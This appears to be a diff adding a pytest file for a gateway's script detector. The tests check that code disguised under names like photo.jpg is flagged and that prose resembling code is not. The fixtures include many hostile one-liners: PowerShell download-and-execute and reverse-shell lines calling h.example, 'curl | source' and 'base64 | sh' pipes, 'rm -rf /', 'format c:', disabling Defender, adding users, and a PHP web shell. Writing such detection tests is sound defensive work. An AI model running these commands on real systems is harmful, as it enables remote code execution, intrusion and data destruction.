@@ -1,0 +1,94 @@
+"""Code under names that promise no text, in the languages that desktops run; and the words that look a little like it."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from gateway.detect.base import Scope
+from gateway.detect.code_forms import dense, uncommented
+from gateway.detect.script import ScriptDetector
+from gateway.model.artifact import Artifact, ArtifactKind
+from gateway.model.content import Sample
+from gateway.model.transaction import Direction
+
+SCOPE = Scope(Direction.INBOUND, "", (), ())
+
+
+def look(text: str | bytes, *names: str) -> list[tuple[str, str]]:
+    data = text if isinstance(text, bytes) else text.encode()
+    artifact = Artifact(1, 0, ArtifactKind.PART, names, detected_type="text/plain")
+    return [(f.code, f.evidence[0]) for f in ScriptDetector(SCOPE).look(Sample(artifact, data))]
+
+
+CODE = {
+    "Windows script code": (
+        "Execute(StrReverse(x))\n", "Execute d(\"ebmd\")\n", "Sub Window_OnLoad\nself.close\nEnd Sub\n", "Call CreateObject(n).Navigate(u)\n",
+        "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n"),
+    "PowerShell code": (
+        "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
+        "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
+        "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n"),
+    "Windows commands": (
+        "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
+        "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
+        "taskkill /f /im a.exe\n", "copy /b a+b c & c\n"),
+    "Python code": (
+        "def main():\n    pass\n", "import pty;pty.spawn('/bin/sh')\n", "import pathlib,webbrowser\n", "try:\n    import winreg\nexcept ImportError:\n    pass\n",
+        "eval(compile(open('a').read(),'a','exec'))\n", "if __name__ == '__main__':\n", "from os.path import join\n"),
+    "JavaScript code": (
+        "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
+        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n"),
+    "Unix code": (
+        "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
+        "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n"),
+    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n"),
+    "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
+    "PHP code": ("<?=`$_GET[0]`?>\n",),
+}
+
+
+@pytest.mark.parametrize("name", ["photo.jpg", "invoice", "a.dat"])
+@pytest.mark.parametrize("what", CODE)
+def test_code_is_known_by_its_statements(what: str, name: str) -> None:
+    for text in CODE[what]:
+        assert [found for _, found in look(text, name)] == [what], text
+
+
+@pytest.mark.parametrize("text", [
+    "Format C: see below\nIf exist any doubts, call us.\nNet user growth was 3 %.\nFor all in (a) and (b)\n", "Import goods\nimport time\nFrom time to time\n",
+    "Set-top boxes, Get-together on Friday; New-Process of booking is Start-Up.\n", "End with a summary\nClass A:\nfunction room\ndef. of terms:\n",
+    "Run 5 km, swim\nCall Anna\nSend, please, the list.\n", "Chmod 755 is explained below.\nSource: (annual report)\n", "Add-Type and New-Item are commands.\n",
+    "Dear all,\nwe copy /and/ paste.\nCD /DVD\nGoto page 3.\nEcho of the past > future\n", "$5,000 = NT$160,000\n$ = dollar\n| a | b |\n", "1.5 2.5\n3.5 4.5\n",
+    "interface Gi0/1\n ip address 10.0.0.1\n!\n", "2026-11-21 09:00 INFO Start-Process failed\n", "[2026] :: minutes\n[x]: y\n",
+])
+@pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"])
+def test_words_that_look_like_code_a_little(text: str, name: str) -> None:
+    assert look(text, name) == []
+
+
+def test_remarks_in_front_hide_no_code() -> None:
+    code = "iex (New-Object Net.WebClient).DownloadString('http://h.example/a')\r\n"
+    prose = "the review of your account shows that several documents are missing\r\n" * 2000
+    for remark in (f"<#{prose}#>\r\n", "".join(f"# {line}\r\n" for line in prose.splitlines()), f"/*{prose}*/", "".join(
+            f"{mark}{line}\r\n" for mark in ("' ", "rem ", ":: ", "// ", "; ", "-- ") for line in prose.splitlines()[:300])):
+        assert look(remark + code, "a.dat") == [("SCRIPT-HOST", "PowerShell code")]
+    assert look(prose + prose, "a.dat") == []
+    assert uncommented("words ' and more") == "words ' and more"
+
+
+def test_no_program_of_pictures_or_documents_opens_text_full_of_signs() -> None:
+    go = "package main\nimport \"os/exec\"\nfunc main(){exec.Command(\"calc\").Run()}\n"
+    assert look(go, "a.jpg") == [("SCRIPT-HOST", "code under the name of a picture or document")]
+    assert look(go, "a.dat") == look(go, "main") == look(go, "a.txt") == []
+    removed = "The attachment \"report.pdf\" (application/pdf; 1.2 MB) was removed by <scanner> at 10:00; see https://h.example/?id=1&m=2\n"
+    assert look(removed, "report.pdf") == [] and look("{\"error\": {\"code\": 404, \"said\": \"not found\"}}", "report.pdf") == []
+    assert not dense("") and not dense("a = b")
+
+
+@pytest.mark.parametrize("line", [b"&", b"(", b"| ", b"\nset a=", b"\nrun ", b"$a=", b"/*", b"'", b"\"\"\"", b"<#", b"def a(", b"if exist ", b"[a", b"; x\n"])
+def test_hostile_texts_cost_little(line: bytes) -> None:
+    begun = time.process_time()
+    look(line * (300_000 // len(line)), "a.dat")
+    assert time.process_time() - begun < 1.5
